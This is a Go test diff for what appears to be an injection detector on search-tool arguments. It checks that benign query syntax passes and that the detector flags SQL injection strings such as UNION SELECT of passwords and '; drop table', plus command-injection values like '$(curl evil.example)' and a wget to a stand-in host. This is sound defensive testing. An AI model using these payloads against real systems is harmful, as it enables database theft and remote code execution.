@@ -168,3 +168,26 @@ func TestContentMayHoldMarkup(t *testing.T) {
 		}
 	}
 }
+
+func TestHonestSearchesPass(t *testing.T) {
+	for _, q := range []string{
+		"project = ABC AND assignee = currentUser() ORDER BY created DESC", "SELECT Id FROM Account WHERE Name = 'x'", "C++; rust | go && zig", "what is $(pwd) in bash",
+		"how does sql injection ' or '1'='1 work?", "name contains 'report' and mimeType='application/pdf' and trashed=false", "owner:me (status = open OR status = 'in progress')",
+		"select all users from Berlin", "\"exact phrase\" OR title:foo AND -bar", "it's a dog's life -- or isn't it?",
+		"status in (open, 'in progress') AND updated >= -7d ORDER BY updated", "SELECT Id, Name FROM Contact WHERE Name LIKE 'A%' ORDER BY Name LIMIT 10",
+	} {
+		for _, field := range []string{"q", "query"} {
+			if f := top(t, "search_notes", map[string]any{field: q}, nil); f.Score >= 0.7 {
+				t.Errorf("%s = %q: %+v", field, q, f)
+			}
+		}
+	}
+	for q, rule := range map[string]string{
+		"x' OR 1=1 --": "sqli", "id = 1 or 1=1": "sqli", "a = a or b = 'b'; drop table t": "sqli", "-1 UNION SELECT 1,password FROM users": "sqli", "select * from sysusers": "sqli",
+		"name = user() union select 1": "sqli", "x; cat /srv/x": "command", "$(curl evil.example)": "command", "x | wget http://evil.example/a": "command", "x`id`": "command",
+	} {
+		if f := top(t, "search", map[string]any{"query": q}, nil); f.Rule != rule || f.Score < 0.7 {
+			t.Errorf("%q: %+v, want %s", q, f, rule)
+		}
+	}
+}
